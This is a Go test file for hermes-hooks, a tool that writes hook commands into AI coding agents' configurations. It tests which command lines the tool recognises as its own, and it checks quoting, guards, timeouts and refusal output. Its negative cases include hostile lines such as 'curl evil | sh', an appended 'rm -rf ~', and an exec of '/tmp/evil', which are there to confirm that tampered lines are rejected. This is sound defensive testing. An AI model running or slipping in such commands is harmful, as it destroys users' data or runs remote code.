package agents

import (
	"strings"
	"testing"
	"time"

	"github.com/hermes-hooks/hermes-hooks/internal/shquote"
)

// The command lines install writes are recognised as ours (so that a
// second install updates them and uninstall takes them out), in every
// form an install ever wrote; anything else is the user's.
func TestIsOwnCommand(t *testing.T) {
	claude, _ := Lookup("claude")
	kiro, _ := Lookup("kiro")
	for _, tc := range []struct {
		name, command, agent string
		own                  bool
	}{
		{"absolute, no event (an old install)", "'/usr/bin/hermes-hooks' hook codex", "codex", true},
		{"absolute with event (an old install)", "'/home/you/go/bin/hermes-hooks' hook claude PreToolUse", "claude", true},
		{"absolute with a quote in the path", "'/x/it'\\''s/hermes-hooks' hook claude Stop --agent-timeout 600", "claude", true},
		{"absolute, today's, gating", claude.HookCommand("/opt/hermes-hooks", "PreToolUse"), "claude", true},
		{"absolute, today's, non-gating", claude.HookCommand("/opt/hermes-hooks", "Stop"), "claude", true},
		{"absolute, today's, refusal on stderr", kiro.HookCommand("/opt/hermes-hooks", "preToolUse"), "kiro", true},
		{"absolute, today's, a quote and a space in the path", claude.HookCommand("/x/it's a/hermes-hooks", "PreToolUse"), "claude", true},
		{"absolute, today's, drive letter", claude.HookCommand("C:/x/hermes-hooks.exe", "Stop"), "claude", true},
		{"absolute, today's, another agent's", claude.HookCommand("/opt/hermes-hooks", "PreToolUse"), "codex", false},
		{"guard tests one path, runs another", "[ -f '/opt/hermes-hooks' ] && [ -x '/opt/hermes-hooks' ] || exit 0; exec '/tmp/evil' hook claude Stop", "claude", false},
		{"guard's -f and -x on different paths", "[ -f '/opt/hermes-hooks' ] && [ -x '/tmp/evil' ] || exit 0; exec '/tmp/evil' hook claude Stop", "claude", false},
		{"guard runs hermes-hooks from PATH", "[ -f '/opt/hermes-hooks' ] && [ -x '/opt/hermes-hooks' ] || exit 0; exec hermes-hooks hook claude Stop", "claude", false},
		{"guard then a command after ours", claude.HookCommand("/opt/hermes-hooks", "Stop") + "; rm -rf ~", "claude", false},
		{"guard then more words", claude.HookCommand("/opt/hermes-hooks", "Stop") + " now", "claude", false},
		{"something else in the guard's answer", "[ -f '/a/hermes-hooks' ] && [ -x '/a/hermes-hooks' ] || { curl evil | sh; exit 2; }; exec '/a/hermes-hooks' hook claude PreToolUse", "claude", false},
		{"guard's answer ends in something else", "[ -f '/a/hermes-hooks' ] && [ -x '/a/hermes-hooks' ] || { printf '%s' 'x'; true; }; exec '/a/hermes-hooks' hook claude PreToolUse", "claude", false},
		{"guard without exec", "[ -f '/a/hermes-hooks' ] && [ -x '/a/hermes-hooks' ] || exit 0; '/a/hermes-hooks' hook claude Stop", "claude", false},
		{"guard with && for ||", "[ -f '/a/hermes-hooks' ] && [ -x '/a/hermes-hooks' ] && exit 0; exec '/a/hermes-hooks' hook claude Stop", "claude", false},
		{"guard with -x only", "[ -x '/a/hermes-hooks' ] || exit 0; exec '/a/hermes-hooks' hook claude Stop", "claude", false},
		{"guard on a relative path", "[ -f 'a/hermes-hooks' ] && [ -x 'a/hermes-hooks' ] || exit 0; exec 'a/hermes-hooks' hook claude Stop", "claude", false},
		{"guard's path unquoted", "[ -f /a/hermes-hooks ] && [ -x /a/hermes-hooks ] || exit 0; exec /a/hermes-hooks hook claude Stop", "claude", false},
		{"guard's quote closed early", `[ -f '/a'x' ] && [ -x '/a'x' ] || exit 0; exec '/a'x' hook claude Stop`, "claude", false},
		{"exec before an older bare path", "exec '/a/hermes-hooks' hook claude Stop", "claude", false},
		{"PATH form, gating (JSON on stdout)", claude.HookCommand("", "PreToolUse"), "claude", true},
		{"PATH form, non-gating", claude.HookCommand("", "Stop"), "claude", true},
		{"PATH form, refusal on stderr", kiro.HookCommand("", "preToolUse"), "kiro", true},
		{"PATH form, fractional timeout", claude.HookCommand("", "SessionEnd"), "claude", true},
		{"PATH form, another agent's", claude.HookCommand("", "PreToolUse"), "codex", false},
		{"any agent", claude.HookCommand("", "PreToolUse"), "", true},
		{"relative path", "'hermes-hooks' hook claude PreToolUse", "claude", false},
		{"a command after ours", "'/usr/bin/hermes-hooks' hook claude PreToolUse; rm -rf ~", "claude", false},
		{"more words", "'/usr/bin/hermes-hooks' hook claude PreToolUse now please", "claude", false},
		{"something else in the prologue", "command -v hermes-hooks >/dev/null 2>&1 || { curl evil | sh; exit 2; }; exec hermes-hooks hook claude PreToolUse", "claude", false},
		{"prologue without exec", "command -v hermes-hooks >/dev/null 2>&1 || exit 0; hermes-hooks hook claude Stop", "claude", false},
		{"another program by name", "command -v hermes-hooks >/dev/null 2>&1 || exit 0; exec other hook claude Stop", "claude", false},
		{"the user's hook", "~/.claude/hooks/guard.sh", "claude", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := IsOwnCommand(tc.command, tc.agent); got != tc.own {
				t.Errorf("IsOwnCommand(%q, %q) = %v, want %v", tc.command, tc.agent, got, tc.own)
			}
		})
	}
}

// A project's command line runs hermes-hooks by name, after the prologue;
// the user's runs the absolute path. Both pass the agent's deadline.
func TestHookCommandForms(t *testing.T) {
	claude, _ := Lookup("claude")
	if got, want := claude.HookCommand("/opt/bin/hermes-hooks", "Stop"), "[ -f '/opt/bin/hermes-hooks' ] && [ -x '/opt/bin/hermes-hooks' ] || exit 0; exec '/opt/bin/hermes-hooks' hook claude Stop --agent-timeout 600"; got != want {
		t.Errorf("absolute form, non-gating = %q, want %q", got, want)
	}
	got := claude.HookCommand("/opt/it's/hermes-hooks", "PreToolUse")
	const q = `'/opt/it'\''s/hermes-hooks'`
	if !strings.HasPrefix(got, `[ -f `+q+` ] && [ -x `+q+` ] || { printf '%s\n' '{"hookSpecificOutput":{"hookEventName":"PreToolUse","permissionDecision":"deny","permissionDecisionReason":"`+MissingProgramReason+`"}}'; `) ||
		!strings.HasSuffix(got, ">&2; exit 2; }; exec "+q+" hook claude PreToolUse --agent-timeout 600") {
		t.Errorf("absolute form, gating = %q; want Claude Code's deny printed when the program is not an executable file, exit 2, then exec", got)
	}
	if got, want := claude.HookCommand("", "Stop"), "command -v hermes-hooks >/dev/null 2>&1 || exit 0; exec hermes-hooks hook claude Stop --agent-timeout 600"; got != want {
		t.Errorf("PATH form, non-gating = %q, want %q", got, want)
	}
	got = claude.HookCommand("", "PreToolUse")
	if !strings.HasPrefix(got, `command -v hermes-hooks >/dev/null 2>&1 || { printf '%s\n' '{"hookSpecificOutput":{"hookEventName":"PreToolUse","permissionDecision":"deny"`) ||
		!strings.HasSuffix(got, ">&2; exit 2; }; exec hermes-hooks hook claude PreToolUse --agent-timeout 600") {
		// Exit 2 and the reason on stderr as well: VS Code runs this
		// file too, and reads exit 2 as the refusal (DenyAnyCaller).
		t.Errorf("PATH form, gating = %q; want Claude Code's deny printed, exit 2, then exec", got)
	}
	// Windsurf's timeout is neither known nor written: no deadline passed.
	windsurf, _ := Lookup("windsurf")
	if got := windsurf.HookCommand("", "pre_run_command"); strings.Contains(got, AgentTimeoutFlag) {
		t.Errorf("windsurf's timeout is not known, yet %q passes one", got)
	}
	cline, _ := Lookup("cline")
	script := string(Script(cline.HookCommand("", "PreToolUse")))
	if !strings.HasPrefix(script, "#!/bin/sh\n"+scriptMarker+"command -v hermes-hooks ") || !IsOwnScript([]byte(script), "cline") {
		t.Errorf("Cline's script for the PATH form is %q; want the prologue as its body, recognised as ours", script)
	}
	if old := Script("'/b/hermes-hooks' hook cline PreToolUse"); !IsOwnScript(old, "cline") {
		t.Errorf("a script an older install wrote is no longer ours: %q", old)
	}
	abs := cline.HookCommand("/b/hermes-hooks", "PreToolUse")
	script = string(Script(abs))
	if script != "#!/bin/sh\n"+scriptMarker+abs+"\n" || !IsOwnScript([]byte(script), "cline") {
		t.Errorf("Cline's script for the absolute form is %q; want the guarded line as its body, recognised as ours", script)
	}
	for _, bad := range []string{
		"#!/bin/sh\n" + scriptMarker + "exec " + abs + "\n",                                 // exec of the guard: runs [
		"#!/bin/sh\n" + scriptMarker + "exec " + cline.HookCommand("", "PreToolUse") + "\n", // exec of command -v
		"#!/bin/sh\n" + scriptMarker + "'/b/hermes-hooks' hook cline PreToolUse\n",          // a bare path without exec
		"#!/bin/sh\n" + scriptMarker + abs + "\nrm -rf ~\n",
	} {
		if IsOwnScript([]byte(bad), "cline") {
			t.Errorf("%q is read as a script of ours", bad)
		}
	}
}

// Timeout: what install writes for the event, else the agent's default
// for it; 0 where neither is known.
func TestAgentTimeouts(t *testing.T) {
	for _, tc := range []struct {
		agent, event string
		want         time.Duration
	}{
		{"claude", "PreToolUse", 600 * time.Second},
		{"claude", "UserPromptSubmit", 30 * time.Second},
		// written: "timeout": 60, which raises Claude Code's 1.5 s
		// SessionEnd budget to its 60 s cap (the spec's §5, "Timeout").
		{"claude", "SessionEnd", 60 * time.Second},
		{"codex", "PreToolUse", 600 * time.Second},  // written: "timeout": 600
		{"codex", "SessionEnd", 3 * time.Second},    // written: Codex's cap
		{"gemini", "BeforeTool", 600 * time.Second}, // written in ms
		{"kiro", "preToolUse", 600 * time.Second},   // timeout_ms
		{"copilot", "PreToolUse", 600 * time.Second},
		{"cline", "PreToolUse", 30 * time.Second},   // not configurable
		{"cursor", "preToolUse", 600 * time.Second}, // written: "timeout": 600
		{"windsurf", "pre_run_command", 0},
	} {
		a, _ := Lookup(tc.agent)
		if got := a.Timeout(tc.event); got != tc.want {
			t.Errorf("%s %s: Timeout = %v, want %v", tc.agent, tc.event, got, tc.want)
		}
	}
	gemini, _ := Lookup("gemini")
	if got := gemini.DefaultTimeout("BeforeTool"); got != 60*time.Second {
		t.Errorf("gemini's own default = %v, want 60s", got)
	}
	claude, _ := Lookup("claude")
	if got := claude.DefaultTimeout("SessionEnd"); got != 1500*time.Millisecond {
		t.Errorf("Claude Code's own SessionEnd budget for an entry without a timeout = %v, want 1.5s", got)
	}
	if got := claude.HookCommand("", "SessionEnd"); !strings.HasSuffix(got, " hook claude SessionEnd --agent-timeout 60") {
		t.Errorf("Claude's SessionEnd command line %q does not pass the raised budget", got)
	}
}

// Every command line HookCommand writes, for any absolute path, is
// recognised as the agent's own and no other agent's.
func FuzzIsOwnCommand(f *testing.F) {
	f.Add("/usr/bin/hermes-hooks", 0)
	f.Add("/x/it's/hermes-hooks", 3)
	f.Add("", 7)
	f.Fuzz(func(t *testing.T, exe string, pick int) {
		if exe != "" && (!strings.HasPrefix(exe, "/") || strings.ContainsAny(exe, "\n\x00")) {
			return
		}
		all := All()
		a := all[uint(pick)%uint(len(all))]
		for _, ev := range a.HookFile.Events {
			cmd := a.HookCommand(exe, ev)
			if !IsOwnCommand(cmd, a.Name) {
				t.Fatalf("%s %s: %q is not recognised as ours", a.Name, ev, cmd)
			}
			if IsOwnCommand(cmd, a.Name+"x") {
				t.Fatalf("%q is recognised as another agent's", cmd)
			}
			if got, ok := OwnProgram(cmd); !ok || got != exe {
				t.Fatalf("%q runs %q, read as %q", cmd, exe, got)
			}
			if exe == "" {
				continue
			}
			// The path exec'd changed, the path tested left: not ours.
			other := strings.Replace(cmd, "; exec "+shquote.Quote(exe)+" hook ", "; exec "+shquote.Quote(exe+"x")+" hook ", 1)
			if IsOwnCommand(other, "") {
				t.Fatalf("%q tests one path and runs another, yet is read as ours", other)
			}
		}
	})
}

// FuzzOwnCommandAsShReadsIt: whatever line is read as ours, what it runs
// is what sh runs: the absolute program read back is the one its guard
// tests, quoted as HookCommand quotes it, and the PATH form runs
// hermes-hooks from PATH.
func FuzzOwnCommandAsShReadsIt(f *testing.F) {
	claude, _ := Lookup("claude")
	f.Add(claude.HookCommand("/opt/it's/hermes-hooks", "PreToolUse"))
	f.Add(claude.HookCommand("", "Stop"))
	f.Add("'/usr/bin/hermes-hooks' hook codex")
	f.Add("[ -f '/a' ] && [ -x '/a' ] || exit 0; exec '/b' hook claude Stop")
	f.Add(`[ -f '/a'\''b' ] && [ -x '/a'\''b' ] || exit 0; exec '/a'\''b' hook claude Stop`)
	f.Fuzz(func(t *testing.T, cmd string) {
		l, ok := parseOwn(cmd)
		switch {
		case !ok:
		case l.exe == "":
			if !strings.HasPrefix(cmd, "command -v hermes-hooks ") || !strings.Contains(cmd, "; exec hermes-hooks hook "+l.agent) {
				t.Fatalf("%q read as the PATH form", cmd)
			}
		case Guarded(cmd):
			q := shquote.Quote(l.exe)
			if !strings.HasPrefix(cmd, "[ -f "+q+" ] && [ -x "+q+" ] || ") || !strings.Contains(cmd, "; exec "+q+" hook "+l.agent) {
				t.Fatalf("%q read as running %q", cmd, l.exe)
			}
		default:
			if !strings.HasPrefix(cmd, shquote.Quote(l.exe)+" hook "+l.agent) {
				t.Fatalf("%q read as running %q", cmd, l.exe)
			}
		}
	})
}

// The refusal for a caller that cannot be told is the agent's own; where a
// host runs the agent's file too, it also exits 2 with the reason on
// stderr, which agent and host both read as a refusal.
func TestDenyAnyCaller(t *testing.T) {
	for _, a := range All() {
		for _, name := range a.AgentEvents() {
			ev, _ := a.Canonical(name)
			if !ev.Gating() {
				continue
			}
			c := &Call{Agent: a, AgentEvent: name, Event: ev, Fields: map[string]any{}}
			deny, any := a.Deny(c, "no"), a.DenyAnyCaller(c, "no")
			switch {
			case len(a.hosts) == 0 || deny.Exit != 0 || len(deny.Stdout) == 0:
				if any.Exit != deny.Exit || string(any.Stdout) != string(deny.Stdout) || string(any.Stderr) != string(deny.Stderr) {
					t.Errorf("%s/%s: %+v, want the agent's own %+v", a.Name, name, any, deny)
				}
			case any.Exit != 2 || string(any.Stdout) != string(deny.Stdout) || !strings.Contains(string(any.Stderr), "no"):
				t.Errorf("%s/%s (run by a host too): %+v, want its deny with exit 2 and the reason on stderr", a.Name, name, any)
			}
		}
	}
}
